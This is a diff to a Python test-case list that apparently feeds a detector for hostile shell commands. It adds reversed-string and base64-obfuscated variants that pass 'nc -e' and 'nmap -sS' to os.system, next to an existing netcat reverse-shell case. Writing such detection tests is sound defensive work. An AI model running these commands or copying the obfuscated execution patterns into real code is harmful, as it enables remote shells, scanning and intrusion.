@@ -236,6 +236,10 @@ PY_CASES = [
      "import os\nBAD = ['nc -e /bin/sh h 1']\nfor c in BAD:\n    os.system(c)\n"),
     ("import pytest\n@pytest.mark.parametrize('cmd', ['nmap -sS 10.0.0.1'])\ndef test_x(cmd):\n    pass\n",
      "nmap -sS", "import os\ndef run(cmd):\n    os.system(cmd)\nrun('nmap -sS 10.0.0.1')\n"),
+    ("decoded = 'pmt/ e- cn'[::-1]\nprint(repr(decoded))\n", "pmt/ e- cn",
+     "import os\ndecoded = 'pmt/ e- cn'[::-1]\nos.system(decoded)\n"),
+    ("import base64\nprint(base64.b64decode('bm1hcCAtc1M=').decode())\n", "bm1hcCAtc1M=",
+     "import base64, os\nos.system(base64.b64decode('bm1hcCAtc1M=').decode())\n"),
     ("name = 'scan'\nif name.startswith('nmap -sS'):\n    pass\n", "nmap -sS",
      "import os\nos.system('nmap -sS x'.strip())\n"),
 ]
